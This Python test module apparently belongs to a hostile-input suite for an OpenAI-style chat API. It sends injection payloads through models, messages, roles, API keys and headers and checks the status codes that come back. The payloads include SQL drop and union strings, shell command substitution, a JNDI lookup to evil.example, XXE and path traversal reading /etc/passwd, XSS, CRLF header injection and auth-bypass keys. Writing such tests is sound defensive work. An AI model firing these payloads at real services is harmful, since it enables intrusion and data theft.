"""S16, S20: markup, control characters and other languages' syntax, in whatever is named."""

from __future__ import annotations

from tests.hostile.case import CHAT, KEY, Case, chat, complete, get, post

__all__ = ["CASES"]

GOOD = {"model": "echo", "messages": [{"role": "user", "content": "x"}]}

TEXTS = {
    "CR and LF": "a\r\nx-injected: yes\r\n\r\n<html>",
    "LF": "a\nERROR: hacked",
    "escape": "\x1b[31mred\x1b]0;title\x07",
    "NUL": "a\0b",
    "backspaces": "secret\b\b\b\b\b\b",
    "right to left": "\u202eevil\u202c\u2066x\u2069",
    "no width": "ec\u200bho",
    "a line separator": "a\u2028b\u2029c\x85d",
    "a byte order mark": "\ufeffecho",
    "another alphabet": "еcho",
    "full width": "ｅｃｈｏ",
    "a combining mark": "echo\u0301",
    "SQL": "' OR '1'='1'; DROP TABLE keys; --",
    "SQL in double quotes": '" UNION SELECT key FROM keys --',
    "a shell": "$(touch /tmp/x) `id` ; id | id & id",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "a format": "%s%s%n {0.__class__} {x!r}",
    "JNDI": "${jndi:ldap://evil.example/x}",
    "markup": "<script>alert(1)</script>",
    "a path": "../../../../etc/passwd",
    "a file's path": "/etc/passwd",
    "Windows": "\\\\evil.example\\share",
    "XML": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "LDAP": "*)(uid=*))(|(uid=*",
    "Prometheus": 'x"} 1\nup{job="x',
    "many quotes": "'\"`" * 1000,
    "emoji": "👩‍👩‍👧‍👦" * 100,
    "10 000 characters": "x" * 10_000,
}

WRONG_KEYS = {
    "SQL": "' OR '1'='1",
    "SQL, commented": f"{KEY}' --",
    "a star": "*",
    "a part of it": KEY[:-1],
    "one character more": KEY + "x",
    "in capitals": KEY.upper(),
    "twice": f"{KEY},{KEY}",
    "with another scheme inside": f"Bearer {KEY}",
    "in quotes": f'"{KEY}"',
    "in base64": "c2staG9zdGlsZS03YzFmNGU5YTJi",
    "null": "null",
    "undefined": "undefined",
    "true": "true",
    "an object": '{"$ne": null}',
    "a hash": "sha256:" + "0" * 64,
    "8 bits": "\xff\xfe",
    "10 000 characters": "k" * 10_000,
    "nothing": "",
}

IDS = {
    "spaces": b"a b c",
    "markup": b"<script>",
    "CR and LF, written": b"a%0d%0ax: y",
    "a backslash": b"a\\r\\nb",
    "8 bits": b"\xff\xfe",
    "right to left": "\u202eevil".encode(),
    "129 characters": b"x" * 129,
    "10 000 characters": b"x" * 10_000,
    "quotes": b"'\"`",
    "a comma": b"a, b",
    "nothing": b"",
    "a tab": b"a\tb",
}


def keyed(key: str, scheme: str = "Bearer") -> bytes:
    """A request with another key."""
    return post(CHAT, GOOD).replace(f"Bearer {KEY}".encode(), f"{scheme} {key}".encode("latin-1"), 1)


CASES = {
    **{f"{name} as a model": Case(404, chat(model=text), "model") for name, text in TEXTS.items()},
    **{f"{name} as a user": Case(200, chat(user=text)) for name, text in TEXTS.items()},
    **{
        f"{name} as a message, streamed": Case(200, chat(messages=[{"role": "user", "content": text}], stream=True))
        for name, text in TEXTS.items()
    },
    **{f"{name} as a prompt": Case(200, complete(prompt=text)) for name, text in TEXTS.items()},
    **{
        f"{name} as a role": Case(400, chat(messages=[{"role": text, "content": "x"}]), "messages[0].role")
        for name, text in TEXTS.items()
    },
    **{f"{name} as a field": Case(200, chat(**{text: 1})) for name, text in TEXTS.items()},
    **{
        f"{name} as an option": Case(400, chat(chat_template_kwargs={text: 1}), "chat_template_kwargs")
        for name, text in TEXTS.items()
    },
    **{
        f"{name} as a kind of part": Case(400, chat(messages=[{"role": "user", "content": [{"type": text}]}]))
        for name, text in TEXTS.items()
    },
    **{f"{name} as a key": Case(401, keyed(text)) for name, text in WRONG_KEYS.items()},
    "a key without scheme": Case(401, keyed("", KEY)),
    "a key for another scheme": Case(401, keyed(KEY, "Basic")),
    "a key in the query": Case(401, get(f"/v1/models?api_key={KEY}&key={KEY}").replace(f"Bearer {KEY}".encode(), b"x")),
    "a key in a cookie": Case(
        401, get("/v1/models", f"cookie: key={KEY}\r\n".encode()).replace(f"Bearer {KEY}".encode(), b"x")
    ),
    "two keys, the first wrong": Case(
        (400, 401), get("/v1/models").replace(b"authorization:", b"authorization: Bearer wrong\r\nauthorization:", 1)
    ),
    **{
        f"{name} as a request's id": Case(200, get("/v1/models", b"x-request-id: " + value + b"\r\n"))
        for name, value in IDS.items()
    },
    "a control character as a request's id": Case(
        400, get("/v1/models", b"x-request-id: \x1b[31m\r\n"), before_keys=True
    ),
    "two request ids": Case(200, get("/v1/models", b"x-request-id: a\r\nx-request-id: b\r\n")),
    "markup as agent": Case(200, get("/v1/models", b"user-agent: <script>\r\nreferer: javascript:alert(1)\r\n")),
}
